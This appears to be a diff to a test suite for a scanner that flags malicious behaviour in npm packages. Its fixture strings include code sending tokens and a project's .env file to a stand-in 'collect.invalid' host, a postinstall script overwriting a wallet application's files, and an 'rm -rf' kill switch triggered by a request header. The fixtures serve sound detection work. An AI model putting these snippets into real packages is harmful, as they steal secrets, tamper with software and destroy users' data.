@@ -81,9 +81,9 @@ test('a credential sent to the address the environment configures is its intende
     found.map((f) => f.severity),
     ['low'],
   );
-  // The same token sent to a hard-coded host stays a finding.
+  // The same token sent to a host written into the package, not named by the credential: high.
   const hard = js.replace('process.env.ACTIONS_ID_TOKEN_REQUEST_URL', "'https://collect.invalid/t'");
-  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': hard }), ['content/secret-exfiltration:medium']);
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': hard }), ['content/secret-exfiltration:high']);
 });
 
 test('credential names are whole name segments: UNAUTHORIZED is not AUTH, a …_URL is where a token goes', async () => {
@@ -187,14 +187,15 @@ test('replacing fetch is low alone and high with wallet-address matching', async
   ]);
 });
 
-test('a tool sending its own single token is medium at runtime; harvesting several secrets is high', async () => {
-  assert.deepEqual(
-    await rules({
+test('a tool sending its own token to the service it is named after is medium at runtime; elsewhere or harvesting is high', async () => {
+  const send = (host: string, name: string) =>
+    rules({
       'package.json': pkg({ main: 'i.js' }),
-      'i.js': "fetch('https://api.invalid/x', { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n",
-    }),
-    ['content/secret-exfiltration:medium'],
-  );
+      'i.js': `fetch('https://${host}/x', { headers: { authorization: 'token ' + process.env.${name} } });\n`,
+    });
+  assert.deepEqual(await send('api.github.invalid', 'GITHUB_TOKEN'), ['content/secret-exfiltration:medium']);
+  assert.deepEqual(await send('api.openai.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:medium']);
+  assert.deepEqual(await send('collect.invalid', 'OPENAI_API_KEY'), ['content/secret-exfiltration:high']);
   assert.deepEqual(
     await rules({
       'package.json': pkg({ main: 'i.js' }),
@@ -214,4 +215,34 @@ test('a command string that pipes a download into a shell is remote code in Java
   assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': decoded }), [
     'content/decoded-exec:critical',
   ]);
+});
+
+test("a project's .env file is a secret when its contents are traced to a request; reading it for settings is not", async () => {
+  const leak =
+    "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst text = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');\nhttps.get('https://collect.invalid/?d=' + encodeURIComponent(text));\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': leak }), ['content/secret-exfiltration:high']);
+  const settings =
+    "const fs = require('fs');\nconst https = require('https');\nconst cfg = fs.existsSync('.env') ? fs.readFileSync('.env', 'utf8') : '';\nconst mirror = /MIRROR=(.*)/.exec(cfg);\nhttps.get('https://dl.invalid/engine.tgz', (r) => r.resume());\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': settings }), []);
+});
+
+test('writing into another installed application is tampering; a build writing its own app bundle is not', async () => {
+  const patch =
+    "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst root = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'wallet', 'resources');\nfor (const f of fs.readdirSync(root)) fs.writeFileSync(path.join(root, f), 'x');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { postinstall: 'node i.js' } }), 'i.js': patch }), [
+    'content/persistence:high',
+  ]);
+  const build =
+    "const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join('dist', 'mac', 'App.app', 'Contents', 'Resources', 'app.asar'), 'x');\n";
+  assert.deepEqual(await rules({ 'package.json': pkg(), 'build.js': build }), []);
+});
+
+test('a request handler that deletes files when a request field equals a fixed value is a remote kill switch', async () => {
+  const js = (cond: string) =>
+    `const { exec } = require('child_process');\nmodule.exports = (app) => app.post('/_/health', (req, res) => {\n  if (${cond}) exec('rm -rf ' + process.cwd());\n  res.end();\n});\n`;
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js("req.headers['x-key'] === 'k3y'") }), [
+    'content/sabotage:high',
+  ]);
+  // Clearing a cache on an ordinary condition is not a trigger.
+  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'i.js' }), 'i.js': js('process.env.CLEAN === "1"') }), []);
 });
